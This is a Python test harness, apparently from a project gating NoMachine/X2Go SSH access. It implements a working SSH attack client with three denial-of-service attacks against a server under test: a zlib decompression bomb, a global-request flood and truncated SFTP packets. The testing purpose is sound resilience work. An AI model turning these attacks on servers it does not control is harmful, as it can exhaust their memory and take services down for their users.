"""An SSH attacker for tests, on Conch: what a client that knows the protocol can send.

``python -m tests.harness.sshattack --port P ATTACK [options]`` prints one
JSON line when the connection has ended (or ``--seconds`` more have passed):
``compression`` (negotiated, client to server; null when the negotiation
failed), ``authenticated``, ``sent`` (attack messages sent), ``replies`` (the
server's answers to them), ``disconnect`` (the reason the server gave, if any)
and ``closed`` (whether the server closed the connection).

Attacks:

* ``bomb``: a zlib bomb, one ``SSH_MSG_IGNORE`` whose ``--bomb-size`` zero
  bytes (400 MB) compress into a single packet of about 390 KiB.  Sent as
  soon as compression runs: right after the first NEWKEYS with plain
  ``zlib``, right after user authentication as ``nx`` with the public
  NoMachine key with ``zlib@openssh.com``.  ``--before-login`` sends it right
  after the first NEWKEYS whatever was negotiated (and does not log in).
* ``global-requests``: log in as ``nx`` with the NoMachine key and send
  global requests of ever new names, with want-reply, as fast as the server
  answers, for ``--seconds``.
* ``sftp-junk``: log in as ``--user`` with ``--password`` (an X2Go user),
  then ``--count`` times: open the ``sftp`` subsystem, say hello, send an OPEN
  request that ends in the middle of its file name (an exception in Conch's
  SFTP server; a refusal of the X2Go door that closes the channel), close
  the channel; ``sent`` counts the channels, ``replies`` the bytes that came back.

The client speaks OpenSSH's delayed compression (:class:`DelayedZlib`), which
Conch lacks; the unit tests use it too.
"""

from __future__ import annotations

import argparse
import json
import os
import struct
import sys
import zlib
from typing import Any

from twisted.conch.ssh import channel, common, connection, keys, transport, userauth
from twisted.internet import defer, protocol, reactor

from nxgate.wire.ssh_etm import ETM_MACS, EtmTransport

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
NX_KEY = os.path.join(REPO, "tests", "fixtures", "nomachine-client.key")
DELAYED_ZLIB = b"zlib@openssh.com"
MSG_USERAUTH_SUCCESS = 52
MSG_IGNORE = 2
BOMB_SIZE = 400_000_000


class DelayedZlib:
    """Mixin before a Conch ``SSHClientTransport``: ``zlib@openssh.com``
    as OpenSSH's client does it: both directions compress from the first
    packet after SSH_MSG_USERAUTH_SUCCESS, and start a fresh stream at every
    later NEWKEYS."""

    authenticated = False
    outgoingCompressionType: bytes | None
    incomingCompressionType: bytes | None
    outgoingCompression: Any
    incomingCompression: Any

    def dispatchMessage(self, messageNum: int, payload: bytes) -> None:
        if messageNum == MSG_USERAUTH_SUCCESS:
            self.authenticated = True
            self._start_delayed_compression()  # before the next service sends its first packet
        super().dispatchMessage(messageNum, payload)  # type: ignore[misc]

    def _newKeys(self) -> None:
        super()._newKeys()  # type: ignore[misc]
        if self.authenticated:
            self._start_delayed_compression()

    def _start_delayed_compression(self) -> None:
        if self.outgoingCompressionType == DELAYED_ZLIB:
            self.outgoingCompression = zlib.compressobj(6)
        if self.incomingCompressionType == DELAYED_ZLIB:
            self.incomingCompression = zlib.decompressobj()


class _Precompressed:
    """Stands for the compressor for one packet whose compressed form is ready."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def compress(self, data: bytes) -> bytes:
        return self.data

    def flush(self, mode: int = zlib.Z_FINISH) -> bytes:
        return b""


def bomb_packet(compressor: Any, size: int) -> bytes:
    """An SSH_MSG_IGNORE of ``size`` zero bytes, through ``compressor`` (the
    live zlib stream, so that the server's inflater follows), chunk by chunk."""
    parts = [compressor.compress(bytes((MSG_IGNORE,)) + struct.pack(">L", size))]
    chunk = bytes(1 << 20)
    left = size
    while left:
        piece = chunk if left >= len(chunk) else chunk[:left]
        parts.append(compressor.compress(piece))
        left -= len(piece)
    parts.append(compressor.flush(zlib.Z_SYNC_FLUSH))
    return b"".join(parts)


class Report:
    def __init__(self) -> None:
        self.fields: dict[str, Any] = {"compression": None, "authenticated": False, "sent": 0, "replies": 0,
                                       "disconnect": None, "closed": False, "bomb_bytes": 0}
        self.done = False

    def finish(self) -> None:
        if not self.done:
            self.done = True
            print(json.dumps(self.fields), flush=True)
            if reactor.running:
                reactor.stop()


class AttackConnection(connection.SSHConnection):
    def __init__(self, attack: Attack) -> None:
        super().__init__()
        self.attack = attack

    def serviceStarted(self) -> None:
        super().serviceStarted()
        self.attack.logged_in(self)

    def ssh_REQUEST_FAILURE(self, packet: bytes) -> None:
        self.attack.report.fields["replies"] += 1
        self.attack.more_requests()

    def ssh_REQUEST_SUCCESS(self, packet: bytes) -> None:
        self.attack.report.fields["replies"] += 1
        self.attack.more_requests()


class Login(userauth.SSHUserAuthClient):
    """As ``nx`` with the NoMachine key, or as a user with a password."""

    def __init__(self, attack: Attack) -> None:
        user = attack.args.user or "nx"
        super().__init__(user.encode(), AttackConnection(attack))
        self.password = attack.args.password
        self.key = None if self.password else keys.Key.fromFile(NX_KEY)

    def getPublicKey(self) -> Any:
        if self.key is None or getattr(self, "_offered", False):
            return None
        self._offered = True
        return self.key.public()

    def getPrivateKey(self) -> defer.Deferred[Any]:
        return defer.succeed(self.key)

    def getPassword(self, prompt: Any = None) -> Any:
        if self.password is None or getattr(self, "_asked", False):
            return None
        self._asked = True
        return defer.succeed(self.password.encode())


class HomeCommand(channel.SSHChannel):
    """``echo $HOME``, as python-x2go begins: the X2Go door serves SFTP only after a command."""

    name = b"session"

    def __init__(self, attack: Attack, **kwargs: Any) -> None:
        super().__init__(**kwargs)
        self.attack = attack

    def channelOpen(self, specificData: bytes) -> None:
        self.conn.sendRequest(self, b"exec", common.NS(b"echo $HOME"), wantReply=True)

    def closed(self) -> None:
        self.conn.openChannel(SFTPJunk(self.attack))


class SFTPJunk(channel.SSHChannel):
    """The sftp subsystem, then OPEN requests cut short in their file name."""

    name = b"session"

    def __init__(self, attack: Attack, **kwargs: Any) -> None:
        super().__init__(**kwargs)
        self.attack = attack

    def channelOpen(self, specificData: bytes) -> None:
        started = self.conn.sendRequest(self, b"subsystem", common.NS(b"sftp"), wantReply=True)
        started.addCallbacks(self._send, lambda failure: self.attack.end())

    def _send(self, _: Any) -> None:
        self.write(struct.pack(">LBL", 5, 1, 3))  # FXP_INIT, version 3
        self.write(struct.pack(">LBL", 9, 3, 7) + struct.pack(">L", 255))  # FXP_OPEN, a name of 255 bytes ... missing
        self.attack.report.fields["sent"] += 1
        self.loseConnection()

    def dataReceived(self, data: bytes) -> None:
        self.attack.report.fields["replies"] += len(data)

    def closed(self) -> None:
        if self.attack.report.fields["sent"] < self.attack.args.count:
            self.conn.openChannel(SFTPJunk(self.attack))
        else:
            reactor.callLater(self.attack.args.linger, self.attack.end)


class Attack:
    def __init__(self, args: argparse.Namespace, report: Report) -> None:
        self.args = args
        self.report = report
        self.transport: Any = None
        self.connection: AttackConnection | None = None
        self.stop_at = 0.0

    # --------------------------------------------------------------- phases
    def secure(self, client: Any) -> None:
        """The first key exchange is done."""
        self.transport = client
        self.report.fields["compression"] = client.outgoingCompressionType.decode()
        if self.args.attack == "bomb" and (self.args.before_login or client.outgoingCompressionType == b"zlib"):
            self.send_bomb()
            return
        client.requestService(Login(self))

    def logged_in(self, conn: AttackConnection) -> None:
        self.report.fields["authenticated"] = True
        self.connection = conn
        if self.args.attack == "bomb":
            self.send_bomb()
        elif self.args.attack == "sftp-junk":
            conn.openChannel(HomeCommand(self))
        else:
            self.stop_at = reactor.seconds() + self.args.seconds
            self.more_requests()

    # -------------------------------------------------------------- attacks
    def send_bomb(self) -> None:
        client = self.transport
        compressor = client.outgoingCompression
        if compressor is None:  # nothing compresses: the bytes would only be a big packet
            self.report.fields["sent"] = 0
            reactor.callLater(self.args.linger, self.end)
            return
        packet = bomb_packet(compressor, self.args.bomb_size)
        self.report.fields["bomb_bytes"] = len(packet)
        client.outgoingCompression = _Precompressed(packet)
        try:
            client.sendPacket(MSG_IGNORE, b"")
        finally:
            client.outgoingCompression = compressor
        self.report.fields["sent"] = 1
        reactor.callLater(self.args.linger, self.end)

    def more_requests(self) -> None:
        """Keep up to 200 requests in flight until the time is up."""
        if self.connection is None or self.args.attack != "global-requests":
            return
        fields = self.report.fields
        if reactor.seconds() >= self.stop_at:
            if fields["replies"] >= fields["sent"]:
                self.end()
            return
        while fields["sent"] - fields["replies"] < 200:
            name = f"flood-{fields['sent']}@attacker.example".encode()
            self.transport.sendPacket(connection.MSG_GLOBAL_REQUEST, common.NS(name) + b"\x01")
            fields["sent"] += 1

    def end(self) -> None:
        if self.transport is not None and self.transport.transport is not None:
            self.transport.transport.loseConnection()
        reactor.callLater(1, self.report.finish)


class AttackClient(EtmTransport, DelayedZlib, transport.SSHClientTransport):
    attack: Attack

    def verifyHostKey(self, hostKey: bytes, fingerprint: bytes) -> defer.Deferred[bool]:
        return defer.succeed(True)

    def connectionSecure(self) -> None:
        if not getattr(self, "_secured", False):  # Conch calls it after every key exchange
            self._secured = True
            self.attack.secure(self)

    def receiveError(self, reasonCode: int, description: bytes) -> None:
        self.attack.report.fields["disconnect"] = description.decode(errors="replace")
        super().receiveError(reasonCode, description)

    def sendDisconnect(self, reason: int, desc: bytes) -> None:
        # Our own side giving up, e.g. no algorithm in common.
        if self.attack.report.fields["disconnect"] is None:
            self.attack.report.fields["disconnect"] = "client: " + desc.decode(errors="replace")
        super().sendDisconnect(reason, desc)

    def connectionLost(self, reason: Any) -> None:
        self.attack.report.fields["closed"] = True
        super().connectionLost(reason)
        reactor.callLater(0, self.attack.report.finish)


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=("bomb", "global-requests", "sftp-junk"))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--source", default=None)
    parser.add_argument("--compression", default="zlib@openssh.com,zlib",
                        help="the client's compression list, comma-separated, in order")
    parser.add_argument("--before-login", action="store_true")
    parser.add_argument("--bomb-size", type=int, default=BOMB_SIZE)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--user", default=None, help="log in as this user (default: nx with the NoMachine key)")
    parser.add_argument("--password", default=None)
    parser.add_argument("--count", type=int, default=2000, help="sftp-junk: how many packets")
    parser.add_argument("--linger", type=float, default=5.0, help="seconds to wait for the server after a bomb")
    parser.add_argument("--timeout", type=float, default=120.0)
    args = parser.parse_args(argv)
    report = Report()
    attack = Attack(args, report)

    class Factory(protocol.ClientFactory):
        def buildProtocol(self, addr: Any) -> AttackClient:
            client = AttackClient()
            client.attack = attack
            client.supportedCompressions = [name.encode() for name in args.compression.split(",")]
            client.supportedMACs = [*ETM_MACS, *transport.SSHClientTransport.supportedMACs]
            return client

        def clientConnectionFailed(self, connector: Any, reason: Any) -> None:
            report.fields["disconnect"] = f"connect failed: {reason.getErrorMessage()}"
            report.finish()

    bind = (args.source, 0) if args.source else None
    reactor.connectTCP(args.host, args.port, Factory(), timeout=30, bindAddress=bind)
    reactor.callLater(args.timeout, report.finish)
    reactor.run()
    sys.exit(0)


if __name__ == "__main__":
    main()
